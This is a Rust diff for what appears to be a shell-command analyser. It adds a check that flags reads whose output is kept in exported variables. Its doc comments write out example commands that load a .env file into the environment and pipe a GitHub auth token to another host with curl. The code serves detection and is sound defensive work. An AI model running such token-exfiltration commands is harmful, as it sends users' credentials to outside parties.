@@ -39,6 +39,30 @@ impl Drafter<'_> {
 }
 
 impl Drafter<'_> {
+    /// `export $(grep -v '^#' .env | xargs)`: what is read goes into variables, and is shown to nobody.
+    pub(super) fn kept_in_variables(&mut self, before: usize, commands: &[Command]) {
+        const DECLARING: [&str; 4] = ["export", "declare", "readonly", "typeset"];
+        // A text that declares more at once is none that a person writes.
+        const MOST: usize = 16;
+        let declaring = commands.iter().filter(|command| DECLARING.contains(&command.name.as_str()));
+        let pieces = declaring.flat_map(|command| command.words.iter()).flat_map(|word| &word.pieces);
+        let outputs = pieces.filter(|(piece, _)| matches!(piece, Piece::Output(_))).map(|(_, origin)| *origin);
+        let outputs: Vec<Origin> = outputs.take(MOST).collect();
+        if outputs.is_empty() {
+            return;
+        }
+        let mut keeping = BTreeSet::new();
+        for (id, command) in commands.iter().enumerate() {
+            if command.words.first().is_some_and(|word| outputs.contains(&word.origin())) {
+                keeping.insert(id);
+                keeping.extend(with_sources(command, commands));
+            }
+        }
+        let read = self.effects.iter_mut().skip(before).filter(|effect| effect.kind == EffectKind::Read);
+        read.filter(|effect| effect.command.is_some_and(|id| keeping.contains(&id)))
+            .for_each(|effect| effect.flags.push("kept"));
+    }
+
     /// `gh auth token | curl -d @- URL`: what a pipeline leads to another host has the flag `sent`.
     fn revealed_sent(&mut self, before: usize, commands: &[Command]) {
         let own = self.effects.get_mut(before..).unwrap_or(&mut []);
